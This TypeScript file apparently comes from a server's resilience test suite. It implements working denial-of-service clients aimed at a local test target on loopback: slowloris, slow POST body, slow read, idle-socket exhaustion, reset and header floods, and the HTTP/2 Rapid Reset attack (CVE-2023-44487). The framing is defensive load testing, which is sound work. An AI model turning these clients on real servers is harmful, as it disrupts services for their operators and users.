// The attacks of slowhttptest, and some more, as small clients. They come from an address of their own.
import { connect as connectHttp2, constants } from "node:http2";
import { connect, type Socket } from "node:net";
import { platform } from "node:os";
import { setTimeout as pause } from "node:timers/promises";
import type { Besieged } from "./besieged.ts";

/** Linux has the whole of 127/8; elsewhere an attacker shares the address of honest clients. */
const ATTACKER = platform() === "linux" ? "127.0.0.2" : "127.0.0.1";

export interface Attack {
  /** Sockets that were opened, by now. */
  readonly opened: number;
  /** Sockets that the target has closed. */
  readonly cut: number;
  /** What the target said on them, by status. */
  readonly statuses: ReadonlyMap<number, number>;
  /** Resolves when the attack is over by itself: all sockets are cut, or its time is up. */
  over: Promise<void>;
  /** Ends what is left of it. */
  stop(): void;
}

interface Opened {
  socket: Socket;
  closed: Promise<void>;
}

/** Opens sockets to the target and counts what becomes of them. */
class Sockets implements Attack {
  opened = 0;
  cut = 0;
  readonly statuses = new Map<number, number>();
  over: Promise<void> = Promise.resolve();
  isStopped = false;
  readonly #open = new Set<Socket>();
  readonly #port: number;

  constructor({ port }: Besieged) {
    this.#port = port;
  }

  open(greet: (socket: Socket) => void): Opened {
    this.opened++;
    const socket = connect({ port: this.#port, host: "127.0.0.1", localAddress: ATTACKER });
    this.#open.add(socket);
    socket.on("connect", () => greet(socket));
    socket.on("error", () => {});
    socket.on("data", (bytes: Buffer) => {
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(bytes.toString("latin1", 0, 16))?.[1]);
      if (status > 0) this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1);
    });
    const closed = new Promise<void>((done) =>
      socket.on("close", () => {
        if (this.#open.delete(socket) && !this.isStopped) this.cut++;
        done();
      }),
    );
    return { socket, closed };
  }

  stop(): void {
    this.isStopped = true;
    for (const socket of this.#open) socket.resetAndDestroy();
  }
}

/** Sends some bytes of a request and then one more now and then: slowloris, and its sibling with a body. */
function slowly(target: Besieged, count: number, start: string, more: string, everyMs: number): Attack {
  const attack = new Sockets(target);
  const all = Array.from({ length: count }, () => {
    let drip: NodeJS.Timeout | undefined;
    const opened = attack.open((socket) => {
      socket.write(start);
      // What has come is read before more is said: after a pause of this process that would take the answer away.
      drip = setInterval(() => setImmediate(() => socket.write(more)), everyMs);
    });
    return opened.closed.then(() => clearInterval(drip));
  });
  attack.over = Promise.all(all).then(() => {});
  return attack;
}

export const slowHeaders = (target: Besieged, count: number, everyMs: number): Attack =>
  slowly(target, count, "GET /v1/transfers HTTP/1.1\r\nhost: x\r\n", "x-a: b\r\n", everyMs);

export const slowBody = (target: Besieged, count: number, everyMs: number): Attack => {
  const head = [
    "POST /v1/transfers HTTP/1.1",
    `host: x\r\nauthorization: ${target.authorization}`,
    "idempotency-key: k\r\ncontent-type: application/json\r\ncontent-length: 4096",
  ];
  return slowly(target, count, `${head.join("\r\n")}\r\n\r\n`, " ", everyMs);
};

/** Half a megabyte each: more than the kernels of both sides take, ten megabytes on Linux, so that the rest is the target's to keep. */
const AT_ONCE = 24;

/** Asks for large answers, several at once on each connection, and reads no more than the first bytes. Over when it has them. */
export function slowRead(target: Besieged, count: number): Attack {
  const attack = new Sockets(target);
  const one = `GET /v1/transfers?page_size=100 HTTP/1.1\r\nhost: x\r\nauthorization: ${target.authorization}\r\n\r\n`;
  const answered = Array.from({ length: count }, () => {
    const { socket } = attack.open((opened) => opened.write(one.repeat(AT_ONCE)));
    return new Promise<void>((done) => {
      socket.once("data", () => {
        socket.pause();
        done();
      });
      socket.once("close", done); // This process stood still before it asked, and was cut for that.
    });
  });
  attack.over = Promise.all(answered).then(() => {});
  return attack;
}

/** Connects, and says nothing. */
export function idleSockets(target: Besieged, count: number): Attack {
  const attack = new Sockets(target);
  const all: Promise<void>[] = [];
  const openAll = async () => {
    // In steps: a listener's backlog is some hundreds.
    for (let index = 0; index < count && !attack.isStopped; index++) {
      all.push(attack.open(() => {}).closed);
      if (index % 100 === 99) await pause(10);
    }
    await Promise.all(all);
  };
  attack.over = openAll();
  return attack;
}

/** For a time, and at least until so many sockets were opened, so many workers each do a thing again and again. */
function repeatedly(
  attack: Sockets,
  { workers, forMs, least }: { workers: number; forMs: number; least: number },
  once: () => Promise<void>,
): Attack {
  const endMs = performance.now() + forMs;
  const worker = async () => {
    while ((performance.now() < endMs || attack.opened < least) && !attack.isStopped) await once();
  };
  attack.over = Promise.all(Array.from({ length: workers }, worker)).then(() => {});
  return attack;
}

/** Connects and resets, half of the time after a whole request: the call behind it begins and is canceled. */
export function resetFlood(target: Besieged, workers: number, forMs: number, least: number): Attack {
  const attack = new Sockets(target);
  const whole = `GET /v1/transfers HTTP/1.1\r\nhost: x\r\nauthorization: ${target.authorization}\r\n\r\n`;
  let turn = 0;
  return repeatedly(attack, { workers, forMs, least }, async () => {
    const asks = turn++ % 2 === 0;
    const { closed } = attack.open((socket) => {
      if (asks) socket.write(whole, () => socket.resetAndDestroy());
      else socket.resetAndDestroy();
    });
    await closed;
  });
}

/** Sends headers without an end, as fast as they are taken. */
export function headerFlood(target: Besieged, workers: number, forMs: number): Attack {
  const attack = new Sockets(target);
  const lines = Array.from({ length: 512 }, (_, index) => `x-${index}: ${"a".repeat(100)}\r\n`).join("");
  return repeatedly(attack, { workers, forMs, least: workers }, async () => {
    const { closed } = attack.open((socket) => {
      socket.write("GET /v1/transfers HTTP/1.1\r\nhost: x\r\n");
      const flood = () => {
        if (!socket.destroyed) socket.write(lines, () => setImmediate(flood));
      };
      flood();
    });
    await closed;
  });
}

export interface RapidReset {
  /** Streams that were opened and reset. */
  streams: number;
  /** Connections that the target has ended. */
  cut: number;
}

/** An attack goes on beyond its time until the target has shown what it does about it. */
const PATIENCE_MS = 30_000;

/**
 * Opens streams of HTTP/2 and resets each at once (CVE-2023-44487), on a new connection whenever one is ended: for a
 * time, and until one was and so many streams were opened.
 */
export async function rapidReset(port: number, path: string, forMs: number, least: number): Promise<RapidReset> {
  const told = { streams: 0, cut: 0 };
  const startMs = performance.now();
  const isShown = () => told.cut > 0 && told.streams >= least;
  const goesOn = () => performance.now() < startMs + (isShown() ? forMs : forMs + PATIENCE_MS);
  const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
  while (goesOn()) {
    const session = connectHttp2(`http://127.0.0.1:${port}`, { localAddress: ATTACKER } as object);
    session.on("error", () => {});
    session.once("goaway", () => {
      told.cut++;
      session.destroy();
    });
    const isOpen = () => !session.destroyed && !session.closed;
    while (goesOn() && isOpen()) {
      for (let index = 0; index < 50 && isOpen(); index++) {
        const stream = session.request(headers);
        stream.on("error", () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        told.streams++;
      }
      await pause(10); // The attacker must not hold up the honest clients of its own process.
    }
    session.destroy();
  }
  return told;
}
